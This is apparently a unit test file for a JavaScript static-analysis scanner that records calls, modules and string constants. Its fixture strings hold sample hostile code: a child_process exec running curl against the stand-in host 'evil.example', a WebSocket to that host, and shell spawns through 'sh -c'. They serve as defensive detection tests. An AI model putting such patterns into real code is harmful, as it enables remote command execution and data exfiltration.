import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseJs } from '../../analyzers/js/parse.js';
import { computeFacts } from '../../analyzers/file-facts.js';
import type { JsFile } from '../../core/inputs.js';
import { isRegExpExec, jsFacts, processLaunches } from './_js-facts.js';

const js = (text: string): JsFile => ({ facts: computeFacts('x.js', Buffer.from(text), text), text, ast: parseJs(text).ast, recovered: false });

describe('jsFacts', () => {
  it('collects calls, modules, aliases, functions, single inits and folded strings in one walk', () => {
    const f = jsFacts(js(`import { exec as run } from 'node:child_process';
      const os = require('os');
      const base = 'https://' + 'evil.example';
      function go(u) { run('curl ' + base + u); }
      const h = async () => os.homedir();
      new WebSocket(\`\${base}/ws\`);`));
    assert.deepEqual([...f.modules], ['child_process', 'os']);
    assert.ok(f.calls.some((c) => c.callee === 'child_process.exec' && c.method === 'exec'));
    assert.ok(f.calls.some((c) => c.callee === 'os.homedir'));
    assert.ok(f.calls.some((c) => c.callee === 'WebSocket' && c.isNew));
    assert.deepEqual([...f.functions.keys()], ['go', 'h']);
    assert.ok(f.inits.has('base'));
    assert.ok(f.strings.some((s) => s.value === 'https://evil.example' && s.folded));
    assert.ok(f.strings.some((s) => s.value === 'https://evil.example/ws'));
  });
});

describe('isRegExpExec', () => {
  it("tells a RegExp's exec from an unresolved object's exec among the launches", () => {
    const f = jsFacts(js(`/\\d+/.exec(a); new RegExp('x' + y).exec(b); RegExp('z').exec(c); (/q/).exec(d);
      getCp().exec(cmd); process.mainModule.require('child_process').exec(cmd2); load().spawn('sh', ['-c', e]);`));
    assert.deepEqual(processLaunches(f).map((c) => `${c.callee}${isRegExpExec(c) ? ' RegExp' : ''}`), ['?.exec RegExp', '?.exec RegExp', '?.exec RegExp', '?.exec RegExp', '?.exec', '?.exec', '?.spawn']);
  });
});
